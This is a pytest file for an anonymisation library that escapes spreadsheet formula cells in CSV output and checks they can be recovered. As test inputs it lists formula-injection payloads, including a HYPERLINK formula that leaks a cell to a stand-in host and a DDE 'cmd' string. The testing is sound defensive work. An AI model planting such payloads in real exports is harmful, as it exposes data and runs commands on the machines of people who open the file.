"""Text cells that a spreadsheet would execute are escaped, and every text can be recovered."""

from __future__ import annotations

import random
import unicodedata

import duckdb
import pytest

import dbanon
from dbanon.runtime import csv_formulas

EXECUTED = (
    "=1+1", "+1", "-1", "@SUM(A1)", "=", '=HYPERLINK("http://x?"&A1,"see")', "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1",
    "\n=1", " =1", "\u00a0=1", "\u3000=1", "\ufeff=1", "\u200b-x", "\x00=1", "\x1f@x", "\uff1d1", "\uff0b1", "\uff0d1",
    "\uff20x", "\ufe661", "\u2212x", "'=1", "''=1", "' =1", "-5", "-0.5e3", "\U000e0020=1",
)  # fmt: skip
HARMLESS = (
    "",
    "'",
    "''",
    "'tis",
    "a=b",
    "a-1",
    "[-5, 3]",
    ">=90",
    "*",
    "1-2",
    "5",
    "\t",
    " ",
    "' a",
    '"=1"',
    "\u4e00=1",
)


@pytest.mark.all_cases
@pytest.mark.parametrize("cell", EXECUTED, ids=ascii)
def test_executed_cells_become_text_and_are_recovered(cell: str) -> None:
    written_cell = csv_formulas.escape_cell(cell)
    assert written_cell == "'" + cell
    assert csv_formulas.unescape_cell(written_cell) == cell
    assert csv_formulas.unescape_cell(csv_formulas.escape_cell(written_cell)) == written_cell


@pytest.mark.all_cases
@pytest.mark.parametrize("cell", HARMLESS, ids=ascii)
def test_harmless_cells_stay_unchanged(cell: str) -> None:
    assert csv_formulas.escape_cell(cell) == cell == csv_formulas.unescape_cell(cell)


def test_negative_quasi_identifier_numbers_stay_numbers() -> None:
    for number in ("-5", "-0.25", "-1.5e-7", "-.5"):
        assert csv_formulas.escape_cell(number, is_quasi=True) == number == csv_formulas.unescape_cell(number)
    for formula in ("-5+A1", "+5", "-05", "- 5", "-5\n=1", "\uff0d5"):
        assert csv_formulas.escape_cell(formula, is_quasi=True) == "'" + formula


def test_sql_and_python_escape_cells_equally() -> None:
    r = random.Random(7)
    characters = [c[0] for c in (*EXECUTED, *HARMLESS) if c] + ["'", "a", "1", "."]
    cells = sorted({"".join(r.choices(characters, k=r.randint(0, 5))) for _ in range(1500)} | {*EXECUTED, *HARMLESS})
    with duckdb.connect() as plain_con:
        plain_con.execute("CREATE TABLE t (cell VARCHAR)")
        plain_con.executemany("INSERT INTO t VALUES (?)", [[c] for c in cells])
        for is_quasi in (False, True):
            written_sql = csv_formulas.escape_sql("cell", is_quasi=is_quasi)
            query = f"SELECT cell, w, {csv_formulas.unescape_sql('w')} FROM (SELECT cell, {written_sql} AS w FROM t)"
            for cell, as_written, recovered in plain_con.execute(query).fetchall():
                assert as_written == csv_formulas.escape_cell(cell, is_quasi=is_quasi)
                assert recovered == cell == csv_formulas.unescape_cell(as_written)


def test_every_unicode_form_of_signs_is_escaped() -> None:
    """Spreadsheets accept full-width and small forms of the signs in some languages: all that NFKC maps to one."""
    forms = [chr(c) for c in range(0x110000) if unicodedata.normalize("NFKC", chr(c)) in ("=", "+", "-", "@")]
    assert len(forms) > 10
    assert all(csv_formulas.escape_cell(form + "1").startswith("'") for form in forms)


def test_unknown_csv_formulas_choice_refused() -> None:
    for choice in ("Escape", "", None, True):
        with pytest.raises(dbanon.errors.InvalidArgumentError, match="csv_formulas must be 'escape' or 'keep'"):
            csv_formulas.is_escape("publish", choice)
